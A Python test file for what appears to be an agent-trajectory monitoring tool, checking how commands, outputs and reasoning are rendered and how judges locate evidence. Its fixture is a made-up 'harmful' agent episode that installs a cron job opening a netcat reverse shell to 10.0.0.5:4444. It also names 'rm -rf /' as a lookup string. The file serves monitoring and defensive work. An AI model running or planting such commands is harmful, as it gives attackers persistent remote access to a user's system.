"""Agent trajectories as text: parts, step views, rendering, and evidence located in commands and outputs."""

from __future__ import annotations

from typing import Any

import pytest

from cotscope.judges import JudgeResult, locate, verify
from cotscope.traces import (
    TRACE_PARTS,
    Action,
    Message,
    Trace,
    render_actions,
    render_trajectory,
    step_view,
)

TASK = "do the task"


def trajectory(steps: list[tuple[str, list[Any]]], variant: str = "harmful", task: str = TASK,
               score: float = 1.0) -> Trace:
    """An episode as the agent stage stores it (the shared helper writes it with ``pipeline.episode_row``)."""
    from cotscope_test_fakes import trajectory as stored_episode

    trace: Trace = stored_episode(steps, variant=variant, task=task, score=score)
    return trace


def ep() -> Trace:
    return trajectory([
        ("I should look at the crontab first.", [("crontab -l", "no crontab for user", 1)]),
        ("", [("echo '@reboot nc -e /bin/sh 10.0.0.5 4444' | crontab -", "", 0)]),
        ("Done, the job is installed.", ["DONE"]),
    ])


def test_parts_are_listed() -> None:
    assert TRACE_PARTS == ("reasoning", "answer", "both", "actions", "trajectory", "monitor")
    with pytest.raises(ValueError, match="unknown trace part"):
        ep().part("steps")  # type: ignore[arg-type]


def test_step_view_lines_up_reasoning_and_actions() -> None:
    t = ep()
    views = step_view(t)
    assert [v.index for v in views] == [0, 1, 2]
    assert views[0].reasoning == "I should look at the crontab first."
    assert t.reasoning[views[0].start:views[0].end] == views[0].reasoning
    assert views[1].reasoning == "" and views[1].actions[0].arguments["command"].startswith("echo")
    assert [a.name for a in views[2].actions] == ["DONE"]


def test_render_actions_has_commands_outputs_and_nothing_of_the_reasoning() -> None:
    t = ep()
    text = t.part("actions")
    assert text == render_actions(t)
    assert "$ crontab -l\nno crontab for user\n[exit code 1]" in text
    assert "## Step 2\n$ echo '@reboot nc -e /bin/sh 10.0.0.5 4444' | crontab -" in text
    assert "[DONE]" in text
    assert "I should look" not in text and "installed" not in text
    assert "no crontab" not in render_actions(t, with_output=False)


def test_render_trajectory_interleaves_reasoning_then_actions() -> None:
    t = ep()
    text = t.part("trajectory")
    assert text.index("I should look at the crontab") < text.index("$ crontab -l") < text.index("## Step 2")
    assert text.index("$ echo") < text.index("Done, the job is installed.")
    cot = render_trajectory(t, actions=False)
    assert "crontab -l" not in cot and "$ " not in cot and "I should look" in cot


def test_long_outputs_are_clipped_head_and_tail() -> None:
    t = trajectory([("", [("cat big.log", "A" * 5000 + "TAIL", 0)])])
    text = render_actions(t, max_output_chars=100)
    assert "characters omitted" in text and text.rstrip().endswith("TAIL")
    assert len(render_actions(t, max_output_chars=None)) > 5000


def test_a_chat_trace_has_empty_agent_parts() -> None:
    t = Trace(prompt=[Message(role="user", content="q")], reasoning="Let me think.", answer="42")
    assert t.part("actions") == "" and t.part("trajectory") == "" and step_view(t) == []
    r = JudgeResult.no_text(t, "actions")
    assert r.parse_error and r.label is None and r.score is None  # never a verdict
    # An agent episode with no command at all is a defined "nothing done".
    done = trajectory([("I will not do that.", [])])
    assert done.part("actions") == "" and JudgeResult.no_text(done, "actions").label is False


def test_ingested_actions_without_agent_steps_render_the_reasoning_once() -> None:
    t = Trace(prompt=[Message(role="user", content="q")], reasoning="Plan: list files.\n\nThen stop.",
              actions=[Action(kind="tool_call", name="bash", arguments={"command": "ls"}, output="a b", step=1)])
    text = t.part("trajectory")
    assert text.startswith("## Reasoning\nPlan: list files.") and "$ ls\na b" in text


def test_evidence_in_commands_outputs_and_reasoning_names_the_step() -> None:
    t = ep()
    e = locate("nc -e /bin/sh 10.0.0.5 4444", t)
    assert e.verified and e.field == "actions[1].command" and e.step == 1
    assert t.actions[1].arguments["command"][e.start:e.end] == e.text
    o = locate("no crontab for user", t)
    assert o.field == "actions[0].output" and o.step == 0
    r = locate("look at the crontab", t)
    assert r.field == "reasoning" and r.step == 0
    # A quote spanning the rendering (command then output) is found in the rendered actions.
    spanning = locate("$ crontab -l\nno crontab", t)
    assert spanning.verified and spanning.field == "actions"
    assert t.part("actions")[spanning.start:spanning.end] == spanning.text
    assert not locate("rm -rf /", t).verified
    # Verification re-checks claimed offsets in an action field.
    again = verify(e.model_copy(update={"verified": False}), t)
    assert again.verified and again.field == "actions[1].command"
    moved = verify(e.model_copy(update={"start": 0, "end": 3}), t)
    assert moved.verified and moved.start == e.start


def test_an_episode_was_asked_its_task_not_its_last_observation() -> None:
    """Judges read ``prompt_text`` as the request: for an agent episode that is the task, and the store's
    DataFrame says the same."""
    from cotscope.store import Store

    t = trajectory([("look", [("ls", "a b")])], task="Back up the notes folder.")
    assert t.prompt[-1].content.startswith("Given the terminal output as below:")
    assert t.prompt_text == "Back up the notes folder."
    st = Store(":memory:")
    st.add_traces([t, Trace(prompt=[Message(role="user", content="plain question")], answer="a")])
    assert sorted(st.traces_df()["prompt"]) == ["Back up the notes folder.", "plain question"]
    st.close()
